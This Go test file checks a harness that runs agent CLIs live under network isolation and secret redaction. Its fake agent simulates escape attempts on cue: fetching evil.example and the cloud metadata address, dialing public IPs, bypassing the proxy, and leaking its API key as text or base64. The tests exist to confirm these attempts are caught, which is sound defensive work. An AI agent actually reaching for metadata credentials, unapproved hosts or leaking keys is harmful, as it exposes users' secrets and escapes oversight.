package capture

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"encoding/pem"
	"errors"
	"io"
	"io/fs"
	"math/big"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	"github.com/open-design/agent-cli-contracts/pkg/contract"
	"github.com/open-design/agent-cli-contracts/pkg/redact"
)

// accountKey is the credential of the account in these tests. No rule knows its form.
const accountKey = "mellow-otter-basket-canyon"

// vendor is the vendor's server, and the CA that it is known by.
func vendor(t *testing.T) (server *httptest.Server, ca []byte) {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	template := &x509.Certificate{
		SerialNumber: big.NewInt(1), NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour), DNSNames: []string{"api.vendor.example"},
		IsCA: true, BasicConstraintsValid: true,
	}
	der, err := x509.CreateCertificate(rand.Reader, template, template, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	server = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Authorization") != "Bearer "+accountKey || r.Host != "api.vendor.example" {
			http.Error(w, "no", http.StatusUnauthorized)
			return
		}
		_, _ = io.WriteString(w, "Hello.")
	}))
	server.TLS = &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}}
	server.StartTLS()
	t.Cleanup(server.Close)
	return server, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})
}

// fakeLive is an agent that talks to its vendor, and does what its prompt says beside.
func fakeLive(prompt string) {
	say := func(text string) { _, _ = os.Stdout.WriteString(text + "\n") }
	say(`{"type":"start","session_id":"s-1"}`)
	pool := x509.NewCertPool()
	ca, _ := os.ReadFile(os.Getenv("FAKE_CA"))
	pool.AppendCertsFromPEM(ca)
	transport := &http.Transport{Proxy: http.ProxyFromEnvironment, TLSClientConfig: &tls.Config{RootCAs: pool}}
	if strings.Contains(prompt, "past the proxy") {
		transport.Proxy = nil
	}
	client := &http.Client{Transport: transport, Timeout: 20 * time.Second}
	get := func(url string) string {
		req, _ := http.NewRequestWithContext(context.Background(), http.MethodGet, url, nil)
		req.Header.Set("Authorization", "Bearer "+os.Getenv("FAKE_KEY"))
		resp, err := client.Do(req)
		if err != nil {
			return "error"
		}
		defer resp.Body.Close() //nolint:errcheck // read whole
		body, _ := io.ReadAll(resp.Body)
		return string(body)
	}
	if strings.Contains(prompt, "stray") {
		get("https://evil.example/")
		get("http://169.254.169.254/latest/meta-data")
		get("https://8.8.8.8/")
		get("https://inside.vendor.example/")
		if c, err := net.DialTimeout("tcp", "1.1.1.1:443", time.Second); err == nil {
			say(`{"type":"escaped"}`)
			_ = c.Close()
		}
	}
	switch key := os.Getenv("FAKE_KEY"); {
	case strings.Contains(prompt, "leak as base64"):
		say(`{"type":"` + base64.RawURLEncoding.EncodeToString([]byte("xx"+key)) + `"}`)
	case strings.Contains(prompt, "leak as key"):
		say(`{"type":"text","` + key + `":1}`)
	case strings.Contains(prompt, "leak in text"):
		say(`{"type":"text","text":"` + key + `"}`)
	}
	if os.Getenv("FAKE_BASE") != "" || os.Getenv("OTHER_SECRET") != "" {
		say(`{"type":"wrong environment"}`)
	}
	if get("https://api.vendor.example/v1") == "Hello." {
		say(`{"type":"text","text":"Hello."}`)
		say(`{"type":"end"}`)
	}
}

// liveTarget is a run of the fake agent against its vendor; liveCapturer captures it.
func liveTarget(t *testing.T, prompt string, ca []byte) Target {
	t.Helper()
	target := fakeTarget(t, prompt)
	target.Backend = contract.BackendLive
	target.Agent.Environment.Set = map[string]string{"FAKE_BASE": "{base_url}"}
	target.Agent.HomeFiles = []contract.HomeFile{{Path: "scripted.json", Lines: []string{"{base_url}"}}}
	target.Agent.Live = []contract.Live{{
		Modes: []contract.ModeID{"exec"}, Egress: []string{"api.vendor.example:443", "inside.vendor.example:443"}, Secrets: []string{"FAKE_KEY"},
		Set: map[string]string{"FAKE_CA": "{home}/ca.pem"}, Argv: []string{"fake-live", "{prompt}"},
		HomeFiles: []contract.HomeFile{{Path: "ca.pem", Lines: strings.Split(strings.TrimSpace(string(ca)), "\n")}},
	}}
	return target
}

func liveCapturer(t *testing.T, server *httptest.Server) *Capturer {
	t.Helper()
	c := newCapturer(t, true)
	c.Getenv = func(name string) string {
		return map[string]string{"FAKE_KEY": accountKey, "OTHER_SECRET": "something else"}[name]
	}
	c.Lookup = func(_ context.Context, host string) ([]netip.Addr, error) {
		if host == "inside.vendor.example" {
			return []netip.Addr{netip.MustParseAddr("10.0.0.1")}, nil
		}
		return []netip.Addr{netip.MustParseAddr("1.2.3.4")}, nil
	}
	c.Dial = func(ctx context.Context, to netip.AddrPort) (net.Conn, error) {
		if to != netip.MustParseAddrPort("1.2.3.4:443") {
			t.Errorf("dialed %v", to)
		}
		return (&net.Dialer{}).DialContext(ctx, "tcp", server.Listener.Addr().String())
	}
	return c
}

func TestCaptureLive(t *testing.T) {
	server, ca := vendor(t)
	for _, tt := range []struct {
		prompt    string
		names     []string
		addresses []string
		findings  []string
	}{
		{prompt: "by the proxy"},
		{prompt: "past the proxy"},
		{"stray", []string{"evil.example"}, []string{"1.1.1.1:443", "8.8.8.8:443", "<metadata>"}, []string{
			"tried to leave loopback: looked up evil.example", "tried to leave loopback: reached for 1.1.1.1:443, 8.8.8.8:443, <metadata>",
			"egress: inside.vendor.example:443: its name leads to a private address",
		}},
		{prompt: "leak in text"}, // the first gate takes it
		{prompt: "leak as base64", findings: []string{"1 frames are untyped: add an event_type rule to the dialect"}},
	} {
		t.Run(tt.prompt, func(t *testing.T) {
			c := liveCapturer(t, server)
			var said strings.Builder
			c.Progress = func(format string, args ...any) { said.WriteString(format + "\n") }
			got, err := c.Capture(t.Context(), liveTarget(t, tt.prompt, ca))
			if err != nil {
				t.Fatal(err)
			}
			i := got.Evidence.Isolation
			use := []contract.EgressUse{{To: "api.vendor.example:443", Connections: 1}}
			if diff := cmp.Diff(use, i.Egress, cmpopts.IgnoreFields(contract.EgressUse{}, "SentBytes", "ReceivedBytes")); diff != "" || i.Network != "allow-list" || i.Egress[0].SentBytes == 0 || i.Egress[0].ReceivedBytes == 0 {
				t.Errorf("network %s, egress %+v (-want +got):\n%s", i.Network, i.Egress, diff)
			}
			for _, diff := range []string{cmp.Diff(tt.names, i.EgressAttempts), cmp.Diff(tt.addresses, i.EgressAddresses), cmp.Diff(tt.findings, got.Findings)} {
				if diff != "" {
					t.Errorf("-want +got:\n%s", diff)
				}
			}
			capture := got.Observation.Capture
			if capture.Backend != contract.BackendLive || capture.RawArtifactVisibility != contract.RawDiscarded || got.Evidence.ModelRequests != 0 {
				t.Errorf("capture %+v", capture)
			}
			if !strings.Contains(said.String(), "no copy of the raw transcript is kept") {
				t.Errorf("nobody was told that no copy of the raw transcript is kept: %s", &said)
			}
			noSecret(t, c)
		})
	}
}

// noSecret looks for the account's credential in everything that a capture wrote.
func noSecret(t *testing.T, c *Capturer) {
	t.Helper()
	err := filepath.WalkDir(c.Out, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		data, err := os.ReadFile(p)
		for _, form := range []string{accountKey, base64.RawURLEncoding.EncodeToString([]byte("xx" + accountKey))} {
			if bytes.Contains(data, []byte(form)) {
				t.Errorf("%s holds the credential", p)
			}
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	nothingLeft(t, c)
}

// A credential that the first gate would let through stops the run.
func TestCaptureLiveLeaks(t *testing.T) {
	server, ca := vendor(t)
	c := liveCapturer(t, server)
	_, err := c.Capture(t.Context(), liveTarget(t, "leak as key", ca))
	var failure *redact.Failure
	if !errors.As(err, &failure) || strings.Contains(err.Error(), accountKey) {
		t.Errorf("%v", err)
	}
	noSecret(t, c)
}

func TestCaptureLiveRefuses(t *testing.T) {
	server, ca := vendor(t)
	for _, tt := range []struct {
		name, want string
		change     func(*Capturer, *Target)
	}{
		{"without isolation", "isolated only", func(c *Capturer, _ *Target) { c.Isolate = false }},
		{"without an entry", "cannot be captured live in release 1.2.3: add an entry", func(_ *Capturer, t *Target) { t.Agent.Live = nil }},
		{"without a credential", "FAKE_KEY is not set", func(c *Capturer, _ *Target) { c.Getenv = func(string) string { return "" } }},
		{"with a short credential", "shorter than 8", func(c *Capturer, _ *Target) { c.Getenv = func(string) string { return "short" } }},
		{"an argv of the model server", "names the model server", func(_ *Capturer, t *Target) { t.Agent.Live[0].Argv = nil }},
		{"a staged failure", "no vendor's server can be asked", func(_ *Capturer, t *Target) {
			t.Probe.Script = &contract.Script{Steps: []contract.ScriptStep{{Error: &contract.ErrorStep{Status: 500}}}}
		}},
		{"the version", "asks no model", func(_ *Capturer, t *Target) { t.Probe.Expected = &contract.MinEvents{Kind: "version"} }},
	} {
		c, target := liveCapturer(t, server), liveTarget(t, "by the proxy", ca)
		target.Bin = "/nowhere" // nothing is started before
		tt.change(c, &target)
		_, err := c.Capture(t.Context(), target)
		if err == nil || !strings.Contains(err.Error(), tt.want) || strings.Contains(err.Error(), "or run with --no-isolation") {
			t.Errorf("%s: %v", tt.name, err)
		}
	}
}

// A probe of a missing credential runs live without one.
func TestCaptureLiveWithoutCredential(t *testing.T) {
	server, ca := vendor(t)
	target := liveTarget(t, "by the proxy", ca)
	target.Probe.EnvPolicy = &contract.EnvPolicy{Unset: []string{"{secrets}"}}
	target.Probe.Script = &contract.Script{Steps: []contract.ScriptStep{{Error: &contract.ErrorStep{Status: 401}}}}
	_, err := liveCapturer(t, server).Capture(t.Context(), target)
	var missing *ExpectationError
	if !errors.As(err, &missing) { // the vendor's server says no
		t.Error(err)
	}
}
